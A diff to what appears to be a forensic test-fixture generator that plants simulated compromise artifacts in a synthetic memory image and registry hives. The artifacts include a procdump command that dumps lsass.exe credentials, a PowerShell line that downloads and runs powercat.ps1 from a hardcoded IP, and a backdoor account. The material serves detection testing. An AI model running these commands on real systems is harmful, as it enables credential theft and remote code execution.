@@ -114,7 +114,7 @@ def memory_image_bytes(size: int = 4 << 20) -> bytes:
     """
     buf = bytearray(size)
     planted = [
-        (0x10_2000, "C:\\root\\procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass.dmp".encode("utf-16-le")),
+        (0x10_2000, r"C:\root\procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass.dmp".encode("utf-16-le")),
         ((1 << 20) - 40, OAB_SHELL.encode()),  # crosses the first 1 MiB boundary
         (0x28_0000, b"IEX (New-Object System.Net.Webclient).DownloadString('http://103.77.192.219/powercat.ps1')"),
     ]
@@ -131,8 +131,16 @@ def more_hives(spec: VolumeSpec) -> dict[str, bytes]:
     accounts = list(STOCK_ACCOUNTS)
     amcache: list[tuple[str, datetime]] = [("c:\\windows\\system32\\inetsrv\\w3wp.exe", T0)]
     if spec.compromised:
-        accounts.append(Account("support", 1011, created=datetime(2021, 3, 3, 2, 45, tzinfo=UTC),
-                                comment="", last_login=datetime(2021, 3, 3, 2, 46, tzinfo=UTC), logins=1))
+        accounts.append(
+            Account(
+                "support",
+                1011,
+                created=datetime(2021, 3, 3, 2, 45, tzinfo=UTC),
+                comment="",
+                last_login=datetime(2021, 3, 3, 2, 46, tzinfo=UTC),
+                logins=1,
+            )
+        )
         amcache.append(("c:\\root\\procdump64.exe", datetime(2021, 3, 3, 2, 33, 40, tzinfo=UTC)))
     security = HiveBuilder(file_name=r"\SystemRoot\System32\Config\SECURITY", timestamp=T0)
     security.set_value(r"Policy\PolAdtEv", "", bytes(64), "REG_NONE")
